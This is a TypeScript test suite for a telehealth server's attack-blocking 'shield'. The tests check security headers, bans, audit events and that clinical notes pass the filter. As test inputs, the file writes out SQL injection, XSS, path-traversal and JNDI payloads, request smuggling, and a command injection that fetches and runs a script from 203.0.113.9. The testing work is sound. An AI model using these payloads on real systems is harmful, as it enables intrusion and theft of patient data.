import { request as httpsRequest } from 'node:https';
import { connect } from 'node:tls';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'kysely';
import type { FastifyInstance } from 'fastify';
import { buildApp } from '../server/app.js';
import { loadTlsMaterial, TLS_OPTIONS } from '../server/tls.js';
import { startTestNode, STORE_KINDS, type TestNode } from '../test-support/test-node.js';
import { patient } from '../test-support/fixtures.js';
import { addClient, type NewAppClient } from '../auth/oauth/oauth-clients.js';
import { InMemoryBanStore } from './ban-store.js';
import { inspectRequest, inspectWebSocketMessage } from './request-inspection.js';
import { benignRequests, benignSignalingMessages } from './benign-corpus/benign-requests.js';

const JSON_HEADERS = { 'content-type': 'application/fhir+json', accept: 'application/fhir+json', 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Chrome/126.0' };

/** Clinical prose that must pass: apostrophes, quotes, <, >, --, SQL-ish words, Spanish. */
const CLINICAL_NOTES = [
  "Mrs. O'Brien reports the pain is 'better' -- drop the dose of metoprolol to 25 mg; select the best option -- then review in 2 weeks.",
  'Glucosa <5 mmol/L en ayunas; TA 140/90 > objetivo. Paciente refiere "mareos" al levantarse. Se decide bajar la dosis -- control en 1 mes.',
  "Niño de 4 años, Núñez Peña, acompañado por su mamá. Dx: otitis media; plan: amoxicilina 80 mg/kg/día ÷ 2 por 7 días. Union of fracture confirmed.",
  'Pt states: "I don\'t want to drop out of the program or stop the insulin"; HbA1c 7.2% (<7.5% target). Script sent to pharmacy for 1 month.',
  "Alergia a penicilina (rash). D'Angelo family history: padre con IAM a los 50 años; madre DM2. Update: delete old allergy entry? No -- keep it.",
  'Select one: (a) continue, (b) stop. Patient chose (a). Order by: Dra. Fernández. Where pain >7/10 use rescue dose.',
];

describe.each(STORE_KINDS)('the shield (%s)', (kind) => {
  let node: TestNode;
  beforeAll(async () => {
    node = await startTestNode(kind);
  });
  afterAll(async () => {
    await node?.stop();
  });

  // Each test comes from its own address so bans of one do not leak into another.
  let lastOctet = 10;
  const from = () => `10.9.0.${lastOctet++}`;

  describe('security headers', () => {
    it('sends HSTS, nosniff, no-referrer, permissions, isolation and a closed CSP on API and FHIR responses', async () => {
      for (const url of ['/healthz', '/fhir/R4/metadata', '/fhir/R4/Patient?name=x', '/api/nothing-here']) {
        const res = await node.request({ method: 'GET', url, remoteAddress: from() });
        expect(res.headers['strict-transport-security']).toMatch(/^max-age=(\d+); includeSubDomains$/);
        expect(Number(/max-age=(\d+)/.exec(res.headers['strict-transport-security'] as string)![1])).toBeGreaterThanOrEqual(31536000);
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        expect(res.headers['referrer-policy']).toBe('no-referrer');
        expect(res.headers['permissions-policy']).toContain('camera=(self)');
        expect(res.headers['permissions-policy']).toContain('microphone=(self)');
        expect(res.headers['permissions-policy']).toContain('geolocation=()');
        expect(res.headers['cross-origin-opener-policy']).toBe('same-origin');
        expect(res.headers['cross-origin-resource-policy']).toBe('same-origin');
        expect(res.headers['x-frame-options']).toBe('DENY');
        expect(res.headers['content-security-policy']).toContain("default-src 'none'");
        expect(res.headers['content-security-policy']).toContain("frame-ancestors 'none'");
        expect(res.headers['x-powered-by']).toBeUndefined();
        expect(res.headers.server).toBeUndefined();
      }
    });
  });

  describe('positive model', () => {
    it('refuses a path with no route before authentication, as the shield (404, not 401)', async () => {
      const res = await node.app.inject({ method: 'GET', url: '/no/such/route', headers: { accept: 'application/json' }, remoteAddress: from() });
      expect(res.statusCode).toBe(404);
      expect(res.json()).toMatchObject({ error: 'not-found' });
      // Where nothing legitimate goes, any anomaly (here: no Accept, which every client sends) makes it a probe.
      const probe = await node.app.inject({ method: 'GET', url: '/no/such/route', remoteAddress: from() });
      expect(probe.statusCode).toBe(403);
      expect(probe.json()).toMatchObject({ error: 'blocked' });
    });

    it('refuses a method the route does not have with 405 and Allow', async () => {
      const res = await node.app.inject({ method: 'PATCH', url: '/api/auth/sign-in', payload: {}, remoteAddress: from() });
      expect(res.statusCode).toBe(405);
      expect(res.headers.allow).toContain('POST');
    });

    it('answers 415 for a type some client of telesalud may send but this route does not parse', async () => {
      const fhir = await node.request({ method: 'POST', url: '/fhir/R4/Patient', payload: 'name=x', headers: { 'content-type': 'text/plain' }, remoteAddress: from() });
      expect(fhir.statusCode).toBe(415);
      expect(fhir.json().resourceType).toBe('OperationOutcome');
      // A FHIR client configured for XML or JSON Patch learns why, and is not treated as an attacker.
      for (const type of ['application/fhir+xml', 'application/json-patch+json']) {
        const res = await node.request({ method: 'POST', url: '/fhir/R4/Patient', payload: '<Patient xmlns="http://hl7.org/fhir"/>', headers: { 'content-type': type }, remoteAddress: from() });
        expect(res.statusCode, type).toBe(415);
      }
      // Nor is someone uploading a phone photo, a Word document or a saved web page.
      for (const type of ['image/heic', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'text/html']) {
        const res = await node.request({ method: 'POST', url: '/api/documents?patient=x&title=y&category=laboratory', payload: 'file bytes', headers: { 'content-type': type }, remoteAddress: from() });
        expect(res.statusCode, type).toBe(415);
      }
    });

    it('refuses as an attack (403 and an event) a body type no client of telesalud sends, on any route', async () => {
      for (const [url, type] of [['/api/auth/sign-in', 'application/xml'], ['/fhir/R4/Patient', 'application/x-java-serialized-object'], ['/api/auth/sign-in', 'multipart/related'], ['/no/route', 'application/cloudevents+json']]) {
        const res = await node.request({ method: 'POST', url: url!, payload: '<a>b</a>', headers: { 'content-type': type! }, remoteAddress: from() });
        expect(res.statusCode, type).toBe(403);
        expect(res.headers['x-refused-by']).toBe('shield');
      }
    });
  });

  describe('attack inspection', () => {
    const blocked = (res: { statusCode: number; json(): Record<string, unknown> }) => {
      expect(res.statusCode).toBe(403);
      const body = res.json();
      if (body.resourceType === 'OperationOutcome') expect(JSON.stringify(body)).toContain('request refused by the shield');
      else expect(body).toMatchObject({ error: 'blocked', message: 'request refused by the shield', requestId: expect.any(String) });
    };

    it('blocks SQL injection, XSS, traversal, command and template injection in FHIR search parameters', async () => {
      for (const q of ["name=x' OR '1'='1", 'name=1 UNION SELECT password FROM account--', 'name=%3Cscript%3Ealert(1)%3C/script%3E', 'identifier=../../etc/passwd', 'name=a;cat /etc/shadow', 'name=${jndi:ldap://evil.example/a}', 'name={{7*7}}']) {
        blocked(await node.request({ method: 'GET', url: `/fhir/R4/Patient?${q.replace(/ /g, '%20')}`, remoteAddress: from() }));
      }
    });

    it('blocks attacks in the path, in headers and in cookies', async () => {
      blocked(await node.request({ method: 'GET', url: '/fhir/R4/Patient/1%27%20or%20%271%27=%271', remoteAddress: from() }));
      blocked(await node.request({ method: 'GET', url: '/fhir/R4/metadata', headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' }, remoteAddress: from() }));
      blocked(await node.request({ method: 'GET', url: '/fhir/R4/metadata', headers: { 'x-api-version': '${jndi:ldap://x.example/a}' }, remoteAddress: from() }));
      blocked(await node.request({ method: 'GET', url: '/fhir/R4/metadata', headers: { referer: 'https://x.example/<script>alert(1)</script>' }, remoteAddress: from() }));
      blocked(await node.request({ method: 'GET', url: '/fhir/R4/metadata', headers: { cookie: 'pref=1%27%20union%20select%20*%20from%20account--' }, remoteAddress: from() }));
    });

    it('blocks attacks in JSON bodies, nested keys and values, and in form bodies', async () => {
      const withNote = (text: string) => ({ ...patient('Pérez', ['Ana']), text: { status: 'generated', div: `<div xmlns="http://www.w3.org/1999/xhtml">${text}</div>` } });
      blocked(await node.request({ method: 'POST', url: '/fhir/R4/Patient', payload: withNote('<img src=x onerror=alert(1)>'), headers: JSON_HEADERS, remoteAddress: from() }));
      blocked(await node.request({ method: 'POST', url: '/fhir/R4/Patient', payload: withNote("x' UNION SELECT email, password_hash FROM account--"), headers: JSON_HEADERS, remoteAddress: from() }));
      blocked(await node.request({ method: 'POST', url: '/fhir/R4/Patient', payload: { ...patient('Ruiz', ['Eva']), extension: [{ url: 'http://x.example', valueCode: '; wget http://203.0.113.9/x.sh | sh' }] }, headers: JSON_HEADERS, remoteAddress: from() }));
      blocked(await node.request({ method: 'POST', url: '/fhir/R4/Patient', payload: { ...patient('Ruiz', ['Eva']), __proto__x: 1, 'constructor[prototype]': { isAdmin: true } }, headers: JSON_HEADERS, remoteAddress: from() }));
      blocked(await node.app.inject({ method: 'POST', url: '/api/auth/sign-in', payload: { email: "admin'--", password: 'x' }, remoteAddress: from() }));
      blocked(await node.app.inject({ method: 'POST', url: '/oauth2/token', payload: 'grant_type=client_credentials&scope=%3Csvg%20onload%3Dalert(1)%3E', headers: { 'content-type': 'application/x-www-form-urlencoded' }, remoteAddress: from() }));
    });

    // No route takes multipart (a route that does not parse it answers 415 unread); a multipart
    // body sent anywhere else is read, so its attack is named and fed to the ban.
    it('blocks attacks in multipart field names and file names', async () => {
      const multipart = (disposition: string) =>
        `--b0undary\r\nContent-Disposition: form-data; ${disposition}\r\nContent-Type: text/plain\r\n\r\nhola\r\n--b0undary--\r\n`;
      for (const disposition of ['name="x"; filename="../../../etc/passwd"', 'name="note"; filename="shell.php"', 'name="<script>alert(1)</script>"', 'name="a\' or 1=1--"']) {
        blocked(await node.request({ method: 'POST', url: '/api/uploads', payload: multipart(disposition), headers: { 'content-type': 'multipart/form-data; boundary=b0undary' }, remoteAddress: from() }));
      }
    });

    it('answers FHIR routes with an OperationOutcome that carries the request id', async () => {
      const res = await node.request({ method: 'GET', url: '/fhir/R4/Observation?code=%27%20or%201=1--', remoteAddress: from() });
      expect(res.statusCode).toBe(403);
      const outcome = res.json();
      expect(outcome).toMatchObject({ resourceType: 'OperationOutcome', issue: [{ severity: 'error', code: 'security' }] });
      expect(outcome.id).toMatch(/^[0-9a-f-]{36}$/);
    });
  });

  describe('clinical traffic passes', () => {
    it('stores and finds patients named O\'Brien, Núñez and D\'Angelo, with notes full of quotes, dashes and SQL words', async () => {
      for (const [family, given] of [["O'Brien", 'Siobhán'], ['Núñez', 'María José'], ["D'Angelo-Peña", 'Íñigo']] as const) {
        const created = await node.request({ method: 'POST', url: '/fhir/R4/Patient', payload: patient(family, [given]), headers: JSON_HEADERS, remoteAddress: from() });
        expect(created.statusCode).toBe(201);
        const found = await node.request({ method: 'GET', url: `/fhir/R4/Patient?name=${encodeURIComponent(family)}`, headers: { accept: 'application/fhir+json' }, remoteAddress: from() });
        expect(found.statusCode).toBe(200);
        expect(found.json().total ?? found.json().entry?.length).toBeGreaterThan(0);
      }
      const subject = (await node.request({ method: 'POST', url: '/fhir/R4/Patient', payload: patient('Romero', ['Tomás']), headers: JSON_HEADERS })).json().id as string;
      for (const text of CLINICAL_NOTES) {
        const observation = {
          resourceType: 'Observation',
          status: 'final',
          code: { coding: [{ system: 'http://loinc.org', code: '8867-4' }], text: 'Heart rate' },
          subject: { reference: `Patient/${subject}` },
          effectiveDateTime: '2026-03-01T10:00:00Z',
          valueQuantity: { value: 72, unit: '/min', system: 'http://unitsofmeasure.org', code: '/min' },
          note: [{ text }],
        };
        const res = await node.request({ method: 'POST', url: '/fhir/R4/Observation', payload: observation, headers: JSON_HEADERS, remoteAddress: from() });
        expect(res.statusCode, text).toBe(201);
      }
    });

    it('lets a sign-in with a password full of punctuation through to the sign-in service', async () => {
      const res = await node.app.inject({ method: 'POST', url: '/api/auth/sign-in', payload: { email: "o'brien@example.org", password: `it's "my" <pass> -- word; 1=1` }, remoteAddress: from() });
      expect(res.statusCode).toBe(401);
      expect(res.json().error).toBe('sign-in-failed');
    });
  });

  describe('security events and bans', () => {
    it('records the block with source, route, rule ids and score, and never the payload', async () => {
      const source = from();
      const marker = 'ZZQ-secret-note-7731';
      const res = await node.request({ method: 'POST', url: '/fhir/R4/Observation', payload: { resourceType: 'Observation', status: 'final', code: { text: 'x' }, note: [{ text: `${marker} <script>alert(1)</script>` }] }, headers: JSON_HEADERS, remoteAddress: source });
      expect(res.statusCode).toBe(403);
      const requestId = res.json().id as string;
      await node.ctx.audit.drain();
      const rows = await sql<{ action: string; source: string; outcome: string; detail: Record<string, unknown> }>`select action, source, outcome, detail from audit_event where request_id = ${requestId}`.execute(node.ctx.store.db);
      expect(rows.rows).toHaveLength(1);
      const event = rows.rows[0]!;
      expect(event).toMatchObject({ action: 'shield-block', source, outcome: 'denied' });
      expect(event.detail).toMatchObject({ route: '/fhir/R4/:type', method: 'POST', score: expect.any(Number) });
      expect(event.detail.rules).toContain('xss-script-tag');
      expect(JSON.stringify(event)).not.toContain(marker);
      expect(JSON.stringify(event)).not.toContain('alert');
    });

    it('bans a source after repeated attacks: even its clean requests are refused, other sources are not', async () => {
      const attacker = from();
      for (let i = 0; i < 5; i++) await node.request({ method: 'GET', url: `/fhir/R4/Patient?name=%27%20or%20${i}=${i}--`, remoteAddress: attacker });
      const clean = await node.request({ method: 'GET', url: '/fhir/R4/metadata', remoteAddress: attacker });
      expect(clean.statusCode).toBe(403);
      expect(clean.json().error ?? clean.json().resourceType).toBeDefined();
      expect(Number(clean.headers['retry-after'])).toBeGreaterThan(500);
      const other = await node.request({ method: 'GET', url: '/fhir/R4/metadata', remoteAddress: from() });
      expect(other.statusCode).toBe(200);
    });

    it('lets a ban expire, and makes the next one longer', async () => {
      const bans = new InMemoryBanStore({ threshold: 10, windowMs: 60_000, banMs: 1000, maxBanMs: 10_000 });
      const t0 = 1_000_000;
      expect(await bans.offence('a', 5, t0)).toBeUndefined();
      expect(await bans.offence('a', 5, t0 + 1)).toBe(t0 + 1 + 1000);
      expect(await bans.bannedUntil('a', t0 + 500)).toBe(t0 + 1001);
      expect(await bans.bannedUntil('a', t0 + 1002)).toBeUndefined();
      await bans.offence('a', 5, t0 + 2000);
      expect(await bans.offence('a', 5, t0 + 2001)).toBe(t0 + 2001 + 2000);
      // Offences outside the window do not add up.
      expect(await bans.offence('b', 5, t0)).toBeUndefined();
      expect(await bans.offence('b', 5, t0 + 60_001)).toBeUndefined();
    });
  });

  describe('over a real TLS socket', () => {
    let port: number;
    let app: FastifyInstance;
    beforeAll(async () => {
      const tls = await loadTlsMaterial(node.config);
      app = await buildApp(node.ctx, { ...TLS_OPTIONS, cert: tls.cert, key: tls.key });
      await app.listen({ port: 0, host: '127.0.0.1' });
      port = (app.server.address() as AddressInfo).port;
    });
    afterAll(async () => {
      await app?.close();
    });

    const raw = (request: string) =>
      new Promise<string>((resolve, reject) => {
        const socket = connect({ host: '127.0.0.1', port, rejectUnauthorized: false }, () => socket.write(request));
        let data = '';
        socket.on('data', (d) => (data += d.toString('latin1')));
        socket.on('end', () => resolve(data));
        socket.on('error', reject);
      });

    it('answers a real HTTPS client normally (before the attacks below get loopback banned)', async () => {
      const status = await new Promise<number>((resolve, reject) => {
        httpsRequest({ host: '127.0.0.1', port, path: '/fhir/R4/metadata', rejectUnauthorized: false }, (res) => {
          res.resume();
          resolve(res.statusCode ?? 0);
        }).on('error', reject).end();
      });
      expect(status).toBe(200);
    });

    it('never serves a file for traversal in any encoding', async () => {
      const paths = ['/../../etc/passwd', '/%2e%2e/%2e%2e/etc/passwd', '/%252e%252e/%252e%252e/etc/passwd', '/..%c0%af..%c0%afetc/passwd', '/..%5c..%5cwindows/win.ini', '/..\\..\\etc\\passwd', '/%u002e%u002e/%u002e%u002e/etc/passwd', '/%ef%bc%8e%ef%bc%8e/etc/passwd', '/fhir/R4/..%2f..%2f..%2fetc%2fpasswd', '/static/..%252f..%252f..%252fetc%252fpasswd', '/?file=....//....//etc/passwd'];
      for (const p of paths) {
        const response = await raw(`GET ${p} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: t\r\nAccept: */*\r\nConnection: close\r\n\r\n`);
        const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(response)?.[1]);
        expect([400, 403, 404], p).toContain(status);
        expect(response).not.toMatch(/root:.*:0:0:/);
        expect(response).not.toMatch(/\[fonts\]|for 16-bit app support/i);
      }
    });

    it('refuses request smuggling and invalid methods at the parser with the shield\'s 403', async () => {
      const smuggled = await raw('POST /api/auth/sign-in HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n');
      expect(smuggled).toMatch(/^HTTP\/1\.1 403/);
      expect(smuggled).toContain('"error":"blocked"');
      const method = await raw('FOO / HTTP/1.1\r\nHost: localhost\r\n\r\n');
      expect(method).toMatch(/^HTTP\/1\.1 403/);
    });

  });
});

describe.each(STORE_KINDS)('real browsers through the shield (%s)', (kind) => {
  // As the browser tests reach it, and as hospital staff may: by address, that address being the public URL's host.
  const ORIGIN = 'https://127.0.0.1:8443';
  let node: TestNode;
  beforeAll(async () => {
    node = await startTestNode(kind, { TELESALUD_PUBLIC_URL: ORIGIN });
  });
  afterAll(async () => {
    await node?.stop();
  });

  const CHROMIUM_UA = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/156.0.0.0 Safari/537.36';
  const HINTS = { 'sec-ch-ua': '"Not:A-Brand";v="8", "Chromium";v="156"', 'sec-ch-ua-mobile': '?0', 'sec-ch-ua-platform': '"Linux"' };
  const COOKIE = '__Host-telesalud_session=AbC-dEf_123XyZ0987654321abcdEFGHijklmn-_Q';
  // Header for header what Chromium 156 sent to a capture server (see src/edge/benign-corpus/browser-traffic.ts).
  const chromium = (accept: string | undefined, site: string, mode: string, dest: string, extra: Record<string, string> = {}) => ({
    host: '127.0.0.1:8443', connection: 'keep-alive', ...HINTS, 'user-agent': CHROMIUM_UA, 'accept-language': 'es-ES,es;q=0.9,en;q=0.8',
    ...(accept ? { accept } : {}), 'sec-fetch-site': site, 'sec-fetch-mode': mode, 'sec-fetch-dest': dest, referer: `${ORIGIN}/sign-in`,
    'accept-encoding': 'gzip, deflate, br, zstd', cookie: COOKIE, ...extra,
  });
  const notShield = (res: { statusCode: number; headers: Record<string, unknown> }, what: string) => {
    expect(res.headers['x-refused-by'], what).toBeUndefined();
    expect(res.statusCode, what).not.toBe(403);
  };
  let octet = 10;
  const from = () => `10.20.0.${octet++}`;

  it('lets page loads, module scripts, the frame-cryptor worker, images and fetch() calls with JSON through', async () => {
    const source = from();
    const navigate = chromium('text/html,application/xhtml+xml,application/xml;q=0.9,image/jxl,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7', 'none', 'navigate', 'document', { 'upgrade-insecure-requests': '1', 'sec-fetch-user': '?1', 'cache-control': 'max-age=0' });
    for (const url of ['/sign-in', '/consult/guest', '/consult/3f1c2a9e-8d7b-4c1a-9e2f-0a1b2c3d4e5f']) notShield(await node.app.inject({ method: 'GET', url, headers: navigate, remoteAddress: source }), url);
    notShield(await node.app.inject({ method: 'GET', url: '/assets/index-DkR3x9aQ.js', headers: chromium('*/*', 'same-origin', 'cors', 'script', { origin: ORIGIN }), remoteAddress: source }), 'module script');
    notShield(await node.app.inject({ method: 'GET', url: '/assets/index-C2b_Zq1T.css', headers: chromium('text/css,*/*;q=0.1', 'same-origin', 'no-cors', 'style'), remoteAddress: source }), 'style');
    const worker = chromium('*/*', 'same-origin', 'same-origin', 'worker');
    for (const h of Object.keys(HINTS)) delete (worker as Record<string, string>)[h];
    notShield(await node.app.inject({ method: 'GET', url: '/assets/frame-cryptor.worker-D0aX7_fQ.js', headers: worker, remoteAddress: source }), 'worker');
    const json = chromium('application/json', 'same-origin', 'cors', 'empty', { origin: ORIGIN, 'x-csrf-token': 'q1W2e3R4t5Y6u7I8o9P0-_aSdFgHjKlZxCvBnM12345' });
    notShield(await node.app.inject({ method: 'GET', url: '/api/auth/session', headers: json, remoteAddress: source }), 'session');
    const signIn = await node.app.inject({ method: 'POST', url: '/api/auth/sign-in', headers: { ...json, 'content-type': 'application/json' }, payload: JSON.stringify({ email: "o'brien.siobhan@clinica.example.org", password: `it's "my" <pass> -- word; 1=1`, code: '123456' }), remoteAddress: source });
    notShield(signIn, 'sign-in');
    expect(signIn.statusCode).toBe(401);
    notShield(await node.app.inject({ method: 'POST', url: '/api/auth/sign-out', headers: { ...json, 'content-length': '0' }, remoteAddress: source }), 'sign-out');
    const guest = await node.app.inject({ method: 'POST', url: '/api/consult/appointments/3f1c2a9e-8d7b-4c1a-9e2f-0a1b2c3d4e5f/guest-links', headers: { ...json, 'content-type': 'application/json' }, payload: JSON.stringify({ label: "Dr. O'Neil – cardiología (intérprete)" }), remoteAddress: source });
    notShield(guest, 'guest link');
    expect(node.app.shieldStats.byFamily().get('rce')).toBe(0);
  });

  it('lets the signaling WebSocket upgrade through: no Accept, Sec-WebSocket-*, the Host being the public address', async () => {
    const res = await node.app.inject({
      method: 'GET',
      url: '/consult/ws',
      headers: {
        host: '127.0.0.1:8443', connection: 'Upgrade', pragma: 'no-cache', 'cache-control': 'no-cache', 'user-agent': CHROMIUM_UA, 'accept-language': 'es-ES', upgrade: 'websocket',
        origin: ORIGIN, 'sec-websocket-version': '13', 'accept-encoding': 'gzip, deflate, br, zstd', cookie: COOKIE, 'sec-websocket-key': 'OAupbVfj+SdKh9MLwYCN9g==',
        'sec-websocket-extensions': 'permessage-deflate; client_max_window_bits',
      },
      remoteAddress: from(),
    });
    notShield(res, 'websocket upgrade');
  });

  it('never bans a browser for the favicon it asks for by itself, by name or by another address', async () => {
    const source = from();
    for (let i = 0; i < 30; i++) {
      const res = await node.app.inject({ method: 'GET', url: '/favicon.ico', headers: { ...chromium('image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8', 'same-origin', 'no-cors', 'image'), host: i % 2 ? '10.1.2.3:8443' : '127.0.0.1:8443' }, remoteAddress: source });
      expect(res.statusCode).toBe(404);
    }
    expect((await node.app.inject({ method: 'GET', url: '/sign-in', headers: chromium('text/html', 'none', 'navigate', 'document'), remoteAddress: source })).statusCode).toBe(200);
  });

  it('treats a Host that is another address as a notice: enough to refuse a request to no route, not a real one', async () => {
    const headers = { host: '10.1.2.3', 'user-agent': 'curl/8.5.0', accept: '*/*' };
    expect((await node.app.inject({ method: 'GET', url: '/fhir/R4/metadata', headers, remoteAddress: from() })).statusCode).toBe(200);
    const probe = await node.app.inject({ method: 'GET', url: '/nothing-here', headers, remoteAddress: from() });
    expect(probe.statusCode).toBe(403);
    expect(probe.headers['x-refused-by']).toBe('shield');
    // The same request without the anomaly is a plain miss.
    expect((await node.app.inject({ method: 'GET', url: '/nothing-here', headers: { ...headers, host: '127.0.0.1:8443' }, remoteAddress: from() })).statusCode).toBe(404);
  });

  it('says "shield" in a header too, for a HEAD request whose answer has no body', async () => {
    const res = await node.app.inject({ method: 'HEAD', url: '/fhir/R4/metadata?x=%3Cscript%3Ealert(1)%3C/script%3E', headers: { 'user-agent': CHROMIUM_UA, accept: '*/*' }, remoteAddress: from() });
    expect(res.statusCode).toBe(403);
    expect(res.headers['x-refused-by']).toBe('shield');
    expect(res.headers['x-request-id']).toMatch(/^[0-9a-f-]{36}$/);
  });

  it('counts blocks by family for /metrics, and the bans in force', async () => {
    const before = node.app.shieldStats.byFamily().get('xss')!;
    await node.app.inject({ method: 'GET', url: '/fhir/R4/Patient?name=%3Cscript%3Ealert(1)%3C/script%3E', headers: { 'user-agent': CHROMIUM_UA, accept: '*/*' }, remoteAddress: from() });
    expect(node.app.shieldStats.byFamily().get('xss')).toBe(before + 1);
    const attacker = from();
    for (let i = 0; i < 6; i++) await node.app.inject({ method: 'GET', url: `/fhir/R4/Patient?name=%27%20or%20${i}=${i}--`, remoteAddress: attacker });
    const metrics = await node.request({ method: 'GET', url: '/metrics' });
    expect(metrics.statusCode).toBe(200);
    expect(metrics.body).toMatch(new RegExp(`telesalud_shield_blocks_total\\{family="xss"\\} ${before + 1}\\b`));
    expect(metrics.body).toMatch(/telesalud_shield_blocks_total\{family="sqli"\} [1-9]/);
    expect(metrics.body).toMatch(/telesalud_shield_blocks_total\{family="java"\} 0/);
    expect(metrics.body).toMatch(/telesalud_shield_bans_active [1-9]/);
  });
});

describe('inspection without a node', () => {
  it('blocks nothing of the benign corpus\'s browser traffic, and no signaling message the web app sends', () => {
    const ids = ['3f1c2a9e-8d7b-4c1a-9e2f-0a1b2c3d4e5f', '0b7a0d7e-1c2b-4f0e-9a55-2f4d3b8c9e11'];
    const requests = benignRequests(4000, { host: 'clinica.example.org', origin: 'https://clinica.example.org', patientIds: ids, appointmentIds: ids, bearer: 'AbCdEf0123456789_-xyzQAbCdEf0123456789_-xyz', ipHost: '10.1.2.3:8443' });
    const browser = requests.filter((r) => r.kind === 'browser' || r.kind === 'browser-by-ip');
    expect(browser.length).toBeGreaterThan(800);
    for (const r of browser) {
      const path = r.url.split('?')[0]!;
      const routed = !/^\/(?:favicon\.ico|apple-touch-icon)/.test(path);
      const verdict = inspectRequest({ method: r.method, url: r.url, httpVersion: '1.1', headers: r.headers.map(([n, v]) => [n.toLowerCase(), v]), body: r.body, route: routed ? { url: path, fhirSearch: false } : undefined, publicHost: 'clinica.example.org' });
      expect(verdict.blocked, `${r.method} ${r.url}: ${verdict.rules.join(' ')}`).toBe(false);
      if (r.kind !== 'browser') continue;
      expect(verdict.score, `${r.method} ${r.url}: ${verdict.rules.join(' ')}`).toBe(0);
      // A stale bookmark, an old asset: no route, read hard, and still not taken for a probe (a 404).
      const stale = inspectRequest({ method: r.method, url: '/clinician/today', httpVersion: '1.1', headers: r.headers.map(([n, v]) => [n.toLowerCase(), v]), body: r.body, route: undefined, publicHost: 'clinica.example.org' });
      expect(stale.score, `stale link, ${r.method}: ${stale.rules.join(' ')}`).toBe(0);
    }
    for (const message of benignSignalingMessages(2000, ids)) {
      const verdict = inspectWebSocketMessage(message);
      expect(verdict.blocked, `${message.slice(0, 80)}: ${verdict.rules.join(' ')}`).toBe(false);
    }
  });

  it('still reads an attack riding on a real browser\'s request, the favicon\'s included', () => {
    const headers: [string, string][] = [['host', 'clinica.example.org'], ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36'], ['accept', '*/*']];
    const judge = (url: string, route: boolean, extra: [string, string][] = []) => inspectRequest({ method: 'GET', url, httpVersion: '1.1', headers: [...headers, ...extra], body: undefined, route: route ? { url: url.split('?')[0]!, fhirSearch: false } : undefined, publicHost: 'clinica.example.org' });
    expect(judge('/favicon.ico?x=%3Cscript%3Ealert(1)%3C/script%3E', false).blocked).toBe(true);
    expect(judge('/assets/index.js', true, [['user-agent', 'Mozilla/5.0 (X11; Linux x86_64) ${jndi:ldap://198.51.100.7/a}']]).blocked).toBe(true);
    expect(judge('/sign-in', true, [['cookie', "__Host-telesalud_session=x' union select password from account--"]]).blocked).toBe(true);
    expect(judge('/sign-in', true, [['authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0onload=.sig'], ['x-note', '1']]).score).toBeGreaterThan(0);
  });

  it('reads consultation signaling: SDP and candidates pass, script in a display name does not', () => {
    const sdp = 'v=0\r\no=- 4611731400430051336 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\na=group:BUNDLE 0 1\r\nm=audio 9 UDP/TLS/RTP/SAVPF 111\r\nc=IN IP4 0.0.0.0\r\na=candidate:1 1 udp 2122260223 192.168.1.20 54321 typ host\r\n';
    expect(inspectWebSocketMessage(JSON.stringify({ type: 'signal', to: 'AbCdEf0123456789_-xyzQ', description: { type: 'offer', sdp } })).blocked).toBe(false);
    expect(inspectWebSocketMessage(JSON.stringify({ type: 'signal', to: 'AbCdEf0123456789_-xyzQ', candidate: { candidate: 'candidate:1 1 udp 2122260223 10.0.0.5 54321 typ host', sdpMid: '0' } })).blocked).toBe(false);
    expect(inspectWebSocketMessage(JSON.stringify({ type: 'join', appointmentId: 'a1', e2ee: true, identityKey: 'BHx2y3z4', displayName: "Dra. O'Connor — Intérprete" })).blocked).toBe(false);
    const evil = inspectWebSocketMessage(JSON.stringify({ type: 'join', appointmentId: 'a1', e2ee: true, identityKey: 'k', displayName: '<img src=x onerror=alert(1)>' }));
    expect(evil.blocked).toBe(true);
    expect(evil.rules).toContain('xss-event-handler');
  });

  it('reads a request to no route harder than a parameter of a real route', () => {
    const request = (route: boolean) => inspectRequest({ method: 'GET', url: '/x?q=cat%20/etc/motd%20x', httpVersion: '1.1', headers: [['host', 'localhost'], ['user-agent', 'u'], ['accept', '*/*']], body: undefined, route: route ? { url: '/x', fhirSearch: false } : undefined });
    expect(request(false).blocked).toBe(true);
  });
});

describe('the shield behind a load balancer (TELESALUD_TRUSTED_PROXIES)', () => {
  let node: TestNode;
  beforeAll(async () => {
    node = await startTestNode('pglite', { TELESALUD_TRUSTED_PROXIES: '10.77.0.0/16, fd00:77::1' });
  });
  afterAll(async () => {
    await node?.stop();
  });

  const attack = (remoteAddress: string, forwardedFor?: string) =>
    Promise.all([0, 1, 2, 3, 4].map((i) => node.request({ method: 'GET', url: `/fhir/R4/Patient?name=%27%20or%20${i}=${i}--`, remoteAddress, headers: forwardedFor ? { 'x-forwarded-for': forwardedFor } : {} })));
  const metadata = (remoteAddress: string, forwardedFor?: string) => node.request({ method: 'GET', url: '/fhir/R4/metadata', remoteAddress, headers: forwardedFor ? { 'x-forwarded-for': forwardedFor } : {} });

  it('bans the client a trusted proxy names, not the proxy: other clients through it are still served', async () => {
    await attack('10.77.0.2', '203.0.113.7');
    expect((await metadata('10.77.0.2', '203.0.113.7')).statusCode).toBe(403);
    expect((await metadata('10.77.0.2', '203.0.113.8')).statusCode).toBe(200);
    expect((await metadata('10.77.0.3', '203.0.113.7')).statusCode).toBe(403);
    // The ban's security event names the client (it is written after the answer: wait for it).
    const banned = async () => (await node.ctx.store.db.selectFrom('audit_event').select('source').where('action', '=', 'shield-ban').execute()).map((e) => e.source);
    const until = Date.now() + 15_000;
